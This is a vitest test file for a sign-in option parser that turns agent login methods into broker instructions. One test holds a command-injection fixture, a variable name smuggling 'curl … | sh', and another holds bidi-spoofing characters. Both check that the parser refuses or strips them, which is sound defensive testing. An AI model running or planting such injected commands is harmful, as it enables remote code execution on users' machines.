import { describe, expect, it } from 'vitest';
import { signInOptions } from './sign-in';

describe('sign-in methods in words', () => {
  it('say which variable an env_var method needs and how to start the broker with it', () => {
    const [codex] = signInOptions([
      {
        type: 'env_var',
        id: 'codex-api-key',
        name: 'Use CODEX_API_KEY',
        description: 'Requires setting the `CODEX_API_KEY` environment variable.',
        vars: [{ name: 'CODEX_API_KEY' }],
      },
    ]);
    expect(codex).toMatchObject({ kind: 'env_var', variables: ['CODEX_API_KEY'], authenticates: true });
    expect(codex!.instruction).toBe(
      'Start the broker with CODEX_API_KEY set (CODEX_API_KEY=… npm run broker -- --agent "…"), then choose Sign in.',
    );
  });

  it('give a terminal login’s exact command, and only retry (never authenticate) for it', () => {
    const [claude] = signInOptions([
      {
        type: 'terminal',
        id: 'claude-login',
        name: 'Log in with Claude',
        description: 'Run `claude /login` in the terminal',
        args: ['--cli'],
        _meta: { 'terminal-auth': { command: '/usr/bin/node', args: ['/opt/my agents/claude-agent-acp', '--cli'] } },
      },
    ]);
    expect(claude).toMatchObject({ kind: 'terminal', authenticates: false });
    expect(claude!.command).toBe(`/usr/bin/node '/opt/my agents/claude-agent-acp' --cli`);
    expect(claude!.instruction).toContain('Run this in a terminal on the broker’s machine');
    const [spelled] = signInOptions([
      {
        type: 'terminal',
        id: 'login',
        name: 'Log in',
        args: ['--login'],
        _meta: { 'tabwright/terminalCommand': 'npx some-agent --login' },
      },
    ]);
    expect(spelled!.command).toBe('npx some-agent --login');
  });

  it('read a terminal login an agent describes in _meta (Qwen Code), and never offer to authenticate with it', () => {
    const [qwen] = signInOptions([
      {
        id: 'openai',
        name: 'Use OpenAI API key',
        description: 'Requires setting the `OPENAI_API_KEY` environment variable',
        _meta: { type: 'terminal', args: ['--auth-type=openai'] },
      },
    ]);
    expect(qwen).toMatchObject({ kind: 'terminal', authenticates: false, command: undefined });
    expect(qwen!.instruction).toBe(
      'Sign in with the agent’s own command in a terminal on the broker’s machine (Requires setting the `OPENAI_API_KEY` environment variable), then choose Retry.',
    );
  });

  it('let the agent sign itself in for its own methods, and skip what is not a method', () => {
    const options = signInOptions([
      { id: 'oauth-personal', name: 'Log in with Google', description: 'Log in with your Google account' },
      { name: 'no id' },
      null,
      { id: 'x', name: `bad\u0007name ${'n'.repeat(400)}` },
    ]);
    expect(options.map((o) => [o.id, o.kind, o.instruction])).toEqual([
      ['oauth-personal', 'agent', undefined],
      ['x', 'agent', undefined],
    ]);
    expect(options[1]!.name).not.toContain('\u0007');
    expect(options[1]!.name.length).toBeLessThanOrEqual(300);
    expect(signInOptions(undefined)).toEqual([]);
  });

  it('show a terminal command without invisible characters, and keep the instruction apart from it', () => {
    const [login] = signInOptions([
      {
        type: 'terminal',
        id: 'login',
        name: 'Log\u200b in',
        args: ['--profile', 'work\u202etxt.exe'],
        _meta: { 'tabwright/terminalCommand': "npx agent --profile 'work\u202etxt.exe'\u2066" },
      },
    ]);
    expect(login!.command).toBe("npx agent --profile 'worktxt.exe'");
    expect(login!.name).toBe('Log in');
    expect(login!.instruction).toBe(
      'Run this in a terminal on the broker’s machine, sign in there, then choose Retry.',
    );
    const [legacy] = signInOptions([
      { id: 'old', name: 'Old', _meta: { 'terminal-auth': { command: 'agent\u202e', args: ['--login', 7] } } },
    ]);
    expect(legacy!.command).toBe('agent --login');
  });

  it('refuse a login whose variable names are not plain names, and the ones the broker refused, with no command', () => {
    const hostile = 'HOME=/x; curl -s http://127.0.0.1:9/x | sh; X';
    const [unchecked, refused] = signInOptions([
      {
        type: 'terminal',
        id: 'unchecked',
        name: 'Log in',
        env: { [hostile]: '1' },
        _meta: { 'tabwright/terminalCommand': `${hostile}=1 npx agent --login` },
      },
      { type: 'terminal', id: 'refused', name: 'Log in', _meta: { 'tabwright/refused': 'The broker will not.' } },
    ]);
    expect(unchecked).toMatchObject({ kind: 'terminal', command: undefined, authenticates: false });
    expect(unchecked!.refused).toMatch(/not a plain name/);
    expect(unchecked!.instruction).toBe(unchecked!.refused);
    expect(JSON.stringify(unchecked)).not.toContain('curl');
    expect(refused).toMatchObject({ command: undefined, refused: 'The broker will not.', authenticates: false });
    const [plain] = signInOptions([
      {
        type: 'terminal',
        id: 'ok',
        name: 'Log in',
        env: { _MODE_2: 'x' },
        _meta: { 'tabwright/terminalCommand': 'a' },
      },
    ]);
    expect(plain).toMatchObject({ command: 'a', refused: undefined });
  });

  it('read a method whose extra fields have odd shapes', () => {
    const [odd] = signInOptions([
      {
        id: 'odd',
        name: 'Odd',
        vars: 'TEST_KEY',
        env: 'x',
        _meta: { 'tabwright/terminalCommand': 3, 'terminal-auth': 'x' },
      },
    ]);
    expect(odd).toMatchObject({ kind: 'agent', command: undefined, refused: undefined, variables: [] });
  });
});
